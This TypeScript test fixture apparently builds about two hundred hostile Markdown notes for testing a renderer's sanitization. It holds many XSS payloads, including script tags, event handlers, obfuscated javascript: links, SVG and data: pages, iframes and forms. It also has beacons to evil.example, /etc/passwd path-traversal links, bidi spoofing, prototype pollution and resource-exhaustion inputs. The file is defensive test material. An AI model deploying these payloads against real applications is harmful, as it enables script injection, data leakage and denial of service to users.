/** Notes that want to run something in whoever reads them, or to keep him waiting. */
export interface HostileNote {
  readonly name: string
  readonly text: string
}

const RUN = "globalThis.pwned='yes'"
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`
const base64 = (text: string) => Buffer.from(text).toString('base64')

const PATTERNS: Readonly<Record<string, (n: number) => string>> = {
  script: (n) => `<script>${RUN}</script>\n\n<script src="//evil.example/${n}.js"></script>`,
  handler: (n) => `<img src=x${n} onerror="${RUN}"> <body onload="${RUN}"> <input autofocus onfocus="${RUN}">`,
  'javascript-link': (n) =>
    `[press ${n}](javascript:${RUN}) [again](JaVaScRiPt:${RUN}) [odd](java\tscript:${RUN}) <javascript:${RUN}>`,
  'entity-link': () => `[press](&#106;avascript:${RUN}) [press](javascript&colon;${RUN}) [press](\u0001javascript:${RUN})`,
  'vbscript-link': () => `[press](vbscript:msgbox(1)) [press](file:///etc/passwd) [press](blob:https://evil.example/1)`,
  svg: () => `${SVG}\n\n![x](data:image/svg+xml;base64,${base64(SVG)})`,
  'data-page': () =>
    `[open](data:text/html;base64,${base64(`<script>${RUN}</script>`)}) ![x](data:text/html,<script>${RUN}</script>)`,
  'remote-image': (n) =>
    `![secret](https://evil.example/${n}.png?${'x'.repeat(n)}) ![x](//evil.example/y.png) ![x](\\\\evil.example\\z.png)`,
  frame: () =>
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  form: () =>
    `<form action="https://evil.example"><button formaction="javascript:${RUN}">Go</button></form><base href="https://evil.example/">`,
  style: () =>
    `<style>*{background:url(https://evil.example/s)}</style><link rel=stylesheet href=//evil.example/c><div style="background:url(//evil.example)">`,
  meta: () =>
    `<meta http-equiv="refresh" content="0;url=https://evil.example"><meta http-equiv=Content-Security-Policy content="">`,
  attribute: () =>
    `[x](https://ok.example "\\" onmouseover=\\"${RUN}") ![\\" onerror=\\"${RUN}](https://ok.example/a.png) \`\`\`js" onclick="${RUN}\nx\n\`\`\``,
  bidi: (n) =>
    `# \u202Egnp.exe${n}\u202C \u2066\u202Dabc\u2069\n\n[\u202Emoc.elpmaxe\u202C](https://evil.example)\n\n${'\u200f\u061c'.repeat(50)}`,
  controls: () => `\u0000\u0007\u001b[2J\u001b]0;x\u0007 \ufffe\uffff \ud800 e${'\u0301'.repeat(5000)}`,
  'front-matter': () =>
    `---\ntitle: "<img src=x onerror=${RUN}>"\n"__proto__": {polluted: true}\nconstructor: {prototype: {polluted: true}}\n---\n\n# x`,
  'wiki-link': () => `[[<img src=x onerror=${RUN}>|<script>${RUN}</script>]] [[javascript:${RUN}]] ![[../../../../etc/passwd]]`,
  'many-brackets': (n) => '['.repeat(20_000 + n) + '](x)'.repeat(2_000),
  'many-stars': (n) => `${'*_'.repeat(20_000 + n)}a${'**a '.repeat(5_000)}\n\n${'`'.repeat(5_000)}x`,
  table: () => `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n${`|${'<b>|'.repeat(500)}\n`.repeat(60)}`,
}

const VARIANTS = 10
export const LONG_LINE = 'long-line'
export const DEEP_LIST = 'deep-list'

/** Two hundred, with a line of ten megabytes and a list of five thousand levels among them. */
export function hostileNotes(): readonly HostileNote[] {
  const patterned = Object.entries(PATTERNS).flatMap(([name, write]) =>
    Array.from({ length: VARIANTS }, (_, n) => ({ name: `${name}-${n}`, text: `# ${name} ${n}\n\n${write(n)}\n` })),
  )
  const deep = `${'- '.repeat(5_000)}x\n\n${Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')}`
  const quotes = `${'> '.repeat(5_000)}x`
  return [
    ...patterned.slice(0, -3),
    { name: LONG_LINE, text: `# Long\n\n${'<script>alert(1)</script> '.repeat(400_000)}` },
    { name: DEEP_LIST, text: deep },
    { name: 'deep-quotes', text: quotes },
  ]
}
